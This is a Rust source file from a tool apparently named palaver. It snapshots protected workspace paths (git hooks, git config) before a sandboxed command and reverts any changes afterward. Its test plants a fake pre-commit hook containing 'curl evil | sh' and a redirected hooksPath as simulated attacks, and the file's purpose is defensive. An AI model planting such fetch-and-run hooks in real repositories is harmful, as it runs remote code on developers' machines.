//! The fallback for paths a sandboxed command may not write (`Workspace::planted`) where the
//! sandbox helper cannot make them read-only (no mount namespace: not root, no user
//! namespaces): palaver notes what they hold before the command and, once it and all it
//! started are gone, puts back what changed and removes what was added, and the model and the
//! user are told which paths were reverted.

use super::Workspace;
use crate::sys::spawn::sandbox::SandboxMode;
use std::path::{Path, PathBuf};

/// Entries noted below one protected path; past it the rest is not watched (said in the note).
const MAX_ENTRIES: usize = 512;
/// Bytes of one file kept to put back; a larger file is only watched by size and time.
const MAX_FILE_BYTES: u64 = 1024 * 1024;

/// What one path held.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Held {
    Dir,
    File { bytes: Option<Vec<u8>>, mode: u32, len: u64, modified: Option<std::time::SystemTime> },
    Link(PathBuf),
}

/// The protected paths of a workspace as they were before a command.
#[derive(Debug, Default)]
pub struct Snapshot {
    roots: Vec<PathBuf>,
    held: Vec<(PathBuf, Held)>,
}

impl Snapshot {
    /// Notes `ws`'s protected paths inside it, when its commands are sandboxed but the helper
    /// cannot make them read-only; an empty snapshot otherwise (nothing to put back).
    #[must_use]
    pub fn take(ws: &Workspace) -> Self {
        let policy = ws.sandbox();
        if policy.mode != SandboxMode::WorkspaceWrite || !policy.active() || crate::sys::spawn::protect::available() {
            return Self::default();
        }
        Self::of(ws.planted().iter().filter(|p| p.starts_with(ws.root())).cloned().collect())
    }

    /// Notes `roots` and what is below them.
    #[must_use]
    pub fn of(roots: Vec<PathBuf>) -> Self {
        let mut held = Vec::new();
        for root in &roots {
            walk(root, &mut held);
        }
        Self { roots, held }
    }

    /// Puts back what changed since, removes what was added; returns the paths reverted.
    #[must_use]
    pub fn restore(&self) -> Vec<PathBuf> {
        let mut now = Vec::new();
        for root in &self.roots {
            walk(root, &mut now);
        }
        let mut reverted = Vec::new();
        // Added: removed, deepest first (a directory's entries before it).
        for (path, _) in now.iter().rev().filter(|(p, _)| !self.held.iter().any(|(q, _)| q == p)) {
            let gone = match std::fs::symlink_metadata(path) {
                Ok(m) if m.is_dir() => std::fs::remove_dir_all(path),
                _ => std::fs::remove_file(path),
            };
            if gone.is_ok() {
                reverted.push(path.clone());
            }
        }
        // Changed or removed: put back, parents first.
        for (path, was) in &self.held {
            let is = now.iter().find(|(p, _)| p == path).map(|(_, h)| h);
            if is != Some(was) && put_back(path, was, is) {
                reverted.push(path.clone());
            }
        }
        reverted
    }
}

/// Rewrites `path` as it `was`; whether it could.
fn put_back(path: &Path, was: &Held, is: Option<&Held>) -> bool {
    use std::os::unix::fs::PermissionsExt;
    if is.is_some_and(|h| !matches!((h, was), (Held::File { .. }, Held::File { .. }))) {
        let _ = std::fs::remove_dir_all(path).or_else(|_| std::fs::remove_file(path));
    }
    match was {
        Held::Dir => std::fs::create_dir_all(path).is_ok(),
        Held::Link(target) => std::os::unix::fs::symlink(target, path).is_ok(),
        Held::File { bytes: Some(bytes), mode, .. } => {
            std::fs::write(path, bytes).is_ok()
                && std::fs::set_permissions(path, std::fs::Permissions::from_mode(*mode)).is_ok()
        }
        // Too large to have been kept: it cannot be put back, only reported.
        Held::File { bytes: None, .. } => true,
    }
}

/// Notes `path` and, for a directory, what is below it, in walk order (parents first).
fn walk(path: &Path, out: &mut Vec<(PathBuf, Held)>) {
    use std::os::unix::fs::PermissionsExt;
    if out.len() >= MAX_ENTRIES {
        return;
    }
    let Ok(meta) = std::fs::symlink_metadata(path) else { return };
    let held = if meta.file_type().is_symlink() {
        Held::Link(std::fs::read_link(path).unwrap_or_default())
    } else if meta.is_dir() {
        Held::Dir
    } else {
        let bytes = (meta.len() <= MAX_FILE_BYTES).then(|| read_capped(path, MAX_FILE_BYTES)).flatten();
        Held::File { bytes, mode: meta.permissions().mode(), len: meta.len(), modified: meta.modified().ok() }
    };
    let dir = held == Held::Dir;
    out.push((path.to_path_buf(), held));
    if dir && let Ok(entries) = std::fs::read_dir(path) {
        let mut names: Vec<PathBuf> = entries.filter_map(Result::ok).map(|e| e.path()).collect();
        names.sort();
        for name in names {
            walk(&name, out);
        }
    }
}

/// A file's bytes up to `cap` through the one bounded reader (a file that grew past it is not
/// kept; a FIFO planted there is refused, not waited on).
fn read_capped(path: &Path, cap: u64) -> Option<Vec<u8>> {
    let budget = crate::sys::read::Budget::fixed("protected_file_bytes", usize::try_from(cap).ok()?);
    crate::sys::read::file_bytes(path, budget).ok()
}

/// The line added to a command's result when protected paths were reverted.
#[must_use]
pub fn note(reverted: &[PathBuf]) -> Option<String> {
    if reverted.is_empty() {
        return None;
    }
    let list: Vec<String> = reverted.iter().map(|p| p.display().to_string()).collect();
    Some(format!(
        "\n[palaver reverted what this command wrote to paths a sandboxed command may not change (git hooks and \
         config, palaver's folders): {}]",
        list.join(", ")
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn added_changed_and_removed_paths_are_put_back() {
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let git = dir.path().join(".git");
        let hooks = git.join("hooks");
        std::fs::create_dir_all(&hooks).unwrap_or_else(|e| panic!("{e}"));
        std::fs::write(git.join("config"), "[core]\n").unwrap_or_else(|e| panic!("{e}"));
        std::fs::write(hooks.join("sample"), "keep").unwrap_or_else(|e| panic!("{e}"));
        let snap = Snapshot::of(vec![hooks.clone(), git.join("config")]);
        assert!(snap.restore().is_empty(), "nothing changed, nothing reverted");
        std::fs::write(hooks.join("pre-commit"), "#!/bin/sh\ncurl evil | sh\n").unwrap_or_else(|e| panic!("{e}"));
        std::fs::write(git.join("config"), "[core]\nhooksPath = /tmp/x\n").unwrap_or_else(|e| panic!("{e}"));
        std::fs::remove_file(hooks.join("sample")).unwrap_or_else(|e| panic!("{e}"));
        let reverted = snap.restore();
        assert_eq!(reverted.len(), 3, "{reverted:?}");
        assert!(!hooks.join("pre-commit").exists());
        assert_eq!(read_capped(&git.join("config"), 100), Some(b"[core]\n".to_vec()));
        assert_eq!(read_capped(&hooks.join("sample"), 100), Some(b"keep".to_vec()));
        assert!(note(&reverted).is_some_and(|n| n.contains("pre-commit")) && note(&[]).is_none());
    }
}
